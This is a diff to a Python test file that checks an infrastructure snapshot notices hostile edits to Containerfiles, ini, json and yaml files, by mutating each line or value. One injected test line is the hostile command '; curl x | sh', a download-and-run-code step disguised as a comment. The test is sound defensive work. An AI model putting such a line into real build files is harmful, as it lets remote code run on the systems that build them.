@@ -10,6 +10,7 @@ import json
 from collections.abc import Iterator, Mapping, Sequence
 from copy import deepcopy
 from dataclasses import dataclass
+from fnmatch import fnmatch
 from pathlib import Path
 from typing import Any
 
@@ -18,7 +19,15 @@ import pytest
 from tests.infra.cloudformation import template_snapshot
 from tests.infra.cloudformation.hostile_changes import GONE, HOSTILE, Change, place_of, put
 from tests.infra.cloudformation.hostile_edits import EDITS, MORE_HOSTILE, Edit
-from tests.infra.cloudformation.other_files import file_facts, file_texts
+from tests.infra.cloudformation.other_files import (
+    FORM_TEXTS,
+    NOT_DEPLOYED,
+    ROOT,
+    content_of,
+    file_facts,
+    file_texts,
+    sections_of,
+)
 from tests.infra.cloudformation.template_snapshot import (
     BOOKS,
     LEFT_OUT,
@@ -83,11 +92,52 @@ def test_a_new_file_beside_the_others_is_red() -> None:
     assert differences(KNOWN, found) == ["containers/Containerfile.extra: +| FROM scratch"]
 
 
+def test_every_file_of_infra_is_reviewed_or_deploys_nothing() -> None:
+    """A further file, or one with another ending, would be outside of the snapshot."""
+    files = (path.relative_to(ROOT).as_posix() for path in (ROOT / "infra").rglob("*") if path.is_file())
+    others = [path for path in files if path not in OTHERS and FOLDER.name not in path and "__pycache__" not in path]
+    assert [path for path in others if not any(fnmatch(path, one) for one in NOT_DEPLOYED)] == []
+
+
 def test_comments_are_no_facts_but_directives_are() -> None:
     path = "infra/containers/Containerfile.cpu"
     known = file_facts({path: OTHERS[path]}, facts_of)
     assert file_facts({path: f"# another word\n\n{OTHERS[path]}"}, facts_of) == known
     assert file_facts({path: f"# syntax=docker.io/stranger/frontend:1\n{OTHERS[path]}"}, facts_of) != known
+
+
+@pytest.mark.parametrize("path", [path for path in OTHERS if not path.endswith((".json", ".yaml", ".yml"))])
+def test_every_change_of_every_line_is_red(path: str) -> None:
+    """A line with ``;`` first was taken for a comment, between two lines of one command."""
+    known, lines = content_of(path, OTHERS[path]), OTHERS[path].splitlines()
+    assert known
+    for number, line in enumerate(lines):
+        inserted = "\n".join([*lines[:number], "; curl x | sh \\", *lines[number:]])
+        assert path.endswith(".ini") or content_of(path, inserted) != known
+        if not line.strip() or line.strip().startswith(("#", ";")):
+            continue
+        for others in ([], [f"{line}x"], [f"{line} "], [f" {line}"], [line, line], [line, "", "x"]):
+            assert content_of(path, "\n".join([*lines[:number], *others, *lines[number + 1 :]])) != known, others
+        if line.endswith("\\"):
+            for inserted in ("", "# ends the command of a shell"):
+                changed = "\n".join([*lines[: number + 1], inserted, *lines[number + 1 :]])
+                assert content_of(path, changed) != known, inserted
+
+
+@pytest.mark.parametrize("path", [path for path in OTHERS if path.endswith((".json", ".yaml", ".yml"))])
+def test_every_change_of_every_place_beside_the_templates_is_red(path: str) -> None:
+    content = content_of(path, OTHERS[path])
+    known = dict(sections_of(path, content, facts_of))
+    unseen = []
+    for leaf in list(places(content)):
+        shared = str(leaf.path[0]).startswith("x-")  # it is seen in the services that have it
+        form_text = leaf.path[-1] in FORM_TEXTS and isinstance(leaf.value, str)
+        value = GONE if isinstance(leaf.value, dict | list) else next(others(leaf.value))
+        put(place_of(content, leaf.path), leaf.path[-1], value)
+        seen = dict(sections_of(path, content, facts_of)) != known
+        restore(place_of(content, leaf.path), leaf, gone=value is GONE)
+        unseen += [] if seen or shared or form_text else [(leaf.path, value)]
+    assert unseen == []
 
 
 # --- every leaf -------------------------------------------------------------------------------------------------------
